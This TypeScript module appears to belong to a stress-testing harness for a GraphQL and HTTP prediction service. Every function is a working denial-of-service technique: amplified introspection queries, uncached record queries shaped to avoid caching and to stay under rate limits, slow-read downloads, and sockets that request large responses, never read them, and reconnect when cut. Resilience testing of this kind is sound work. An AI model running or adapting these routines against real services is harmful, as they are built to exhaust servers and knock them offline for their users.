import { Agent, type IncomingMessage, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

import { timedRequest } from './timed-request.ts';

export interface Target {
  readonly url: string;
  readonly from: string;
  /** Rounds of history with 1,000 entries or more, and the number of events at the start. */
  readonly rounds: readonly number[];
  readonly events: number;
  /** Counts a result of an attack. */
  readonly got: (what: string) => void;
}

/** This attack is also measured alone. */
export const RECORDS = 'records of agents over all time';

/** The pause after a refusal: a flood of refusals is another matter. */
const REFUSED_MS = 100;
/** The pause after a cut connection. */
export const AGAIN_MS = 1_000;

const OK = 200;
const FILTERED_MS = 500;
const READ_BYTES = 10 * 1024;
const SIGN_OF_LIFE_MS = 5_000;

/** The standard introspection as one fragment, used ten times: 1 MB for less than 1 KB. */
const INTROSPECTION = `{ ${Array.from({ length: 10 }, (_, n) => `a${n}: __schema { ...S }`).join(' ')} }
fragment S on __Schema { queryType { name } mutationType { name } subscriptionType { name } types { ...F }
  directives { name description locations args { ...I } } }
fragment F on __Type { kind name description fields(includeDeprecated: true) { name description args { ...I } type { ...T }
  isDeprecated deprecationReason } inputFields { ...I } interfaces { ...T }
  enumValues(includeDeprecated: true) { name description isDeprecated deprecationReason } possibleTypes { ...T } }
fragment I on __InputValue { name description type { ...T } defaultValue }
fragment T on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }`;

/** Filters without matches: an answer that no question has, and one that no agent gave. */
const FILTERED = [
  '{ predictions(first: 1, prediction: "ZZZ") { nodes { id } } }',
  '{ predictions(first: 1, prediction: "NO") { nodes { id } } }',
  '{ rounds(first: 100) { nodes { predictions(first: 1, prediction: "ZZZ") { nodes { id } } } } }',
  '{ rounds(first: 100) { nodes { predictions(first: 1, prediction: "NO") { nodes { id } } } } }',
];

/** The fields that read most of agents' records for their cost: histories of points and edge, and calibrations. */
const OF_RECORDS: readonly ((alias: string) => string)[] = [
  (alias) => `{ agents(first: 71) { nodes { ${alias}: pnlHistory(points: 1) { value } } } }`,
  (alias) =>
    `{ agents(first: 35) { nodes { ${alias}: pnlHistory(points: 1) { value } edgeHistory(points: 1) { value } } } }`,
  (alias) => `{ agents(first: 71) { nodes { ${alias}: calibration(asset: "BTC") { n } } } }`,
];

/** Ten concurrent introspections, repeated on each of `connections`. */
export function askForSchema(target: Target, connections: number): void {
  askOn(target, connections, { documents: [INTROSPECTION], pauseMs: 0 });
}

/** Queries without results, which read all predictions; within the budget of 120 a minute. */
export function askForNothing(target: Target, connections: number): void {
  askOn(target, connections, { documents: FILTERED, pauseMs: FILTERED_MS });
}

/** Agents' records over all time without a pause; documents differ, so none is cached. */
export function askForRecords(target: Target, connections: number): void {
  const documents = Array.from({ length: 600 }, (_, n) => OF_RECORDS[n % OF_RECORDS.length]?.(`a${n}`) ?? '');
  askOn(target, connections, { documents, pauseMs: 0 });
}

function askOn(
  { url, from, got }: Target,
  connections: number,
  { documents, pauseMs }: { documents: readonly string[]; pauseMs: number },
): void {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const ask = async (first: number): Promise<never> => {
    for (let n = first; ; n += 1) {
      const body = { query: documents[n % documents.length] };
      const { status } = await timedRequest({ url: `${url}/graphql`, from, body, agent });
      got(String(status ?? 'none'));
      await delay(status === OK ? pauseMs : Math.max(pauseMs, REFUSED_MS));
    }
  };
  for (let n = 0; n < connections; n += 1) void ask(n);
}

/** Downloads all predictions at 10 KB a second, and begins again when cut off. */
export function readSlowly({ url, from, got }: Target, readers: number): void {
  const again = (): void => void setTimeout(begin, AGAIN_MS);
  const begin = (): void => {
    const sent = request(`${url}/api/export/predictions.ndjson`, { localAddress: from, agent: false });
    let read = 0;
    sent.once('response', (answer) => {
      got(String(answer.statusCode));
      if (answer.statusCode === OK) readEverySecond(answer, () => (read += 1));
      else answer.resume();
    });
    sent.on('error', () => {});
    sent.once('close', () => {
      if (read > 0) got('ended');
      again();
    });
    sent.end();
  };
  for (let n = 0; n < readers; n += 1) begin();
}

function readEverySecond(answer: IncomingMessage, onRead: () => void): void {
  const reading = setInterval(() => {
    answer.read(READ_BYTES);
    onRead();
  }, 1_000);
  answer.on('error', () => {});
  answer.once('close', () => clearInterval(reading));
}

/** Requests large answers on separate connections and reads nothing; cut ones are opened again. */
export function readNothing({ url, from, rounds, got }: Target, connections: number): void {
  const { hostname, port } = new URL(url);
  const open = (n: number): void => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: from });
    socket.pause();
    socket.write(n % 2 === 0 ? posted(hostname, INTROSPECTION) : entriesRequest(hostname, rounds[n % rounds.length]));
    got('asked');
    // A client that never reads learns of the end only by writing. A newline between requests is harmless.
    const alive = setInterval(() => socket.write('\r\n'), SIGN_OF_LIFE_MS);
    socket.on('error', () => {});
    socket.once('close', () => {
      clearInterval(alive);
      got('cut');
      setTimeout(open, AGAIN_MS, n);
    });
  };
  for (let n = 0; n < connections; n += 1) open(n);
}

/** The first 1,000 entries of a round. */
function entriesRequest(host: string, round: number | undefined): string {
  return `GET /api/rounds/${round}/entries HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
}

function posted(host: string, query: string): string {
  const body = JSON.stringify({ query });
  const head = `POST /graphql HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json`;
  return `${head}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
}
